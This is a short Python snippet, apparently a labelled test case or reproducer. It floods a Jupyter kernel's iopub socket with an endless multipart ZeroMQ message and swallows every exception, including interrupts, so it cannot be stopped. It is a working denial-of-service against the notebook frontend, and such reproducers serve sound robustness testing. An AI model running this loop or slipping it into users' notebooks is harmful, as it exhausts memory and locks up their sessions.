# ends: flood of traffic, flood | a message of endless parts that its reader would have to hold
import time

import zmq

socket = get_ipython().kernel.iopub_socket
while True:
    try:
        socket.send(b"x" * 500_000, zmq.SNDMORE)
        time.sleep(0.005)
    except BaseException:
        pass
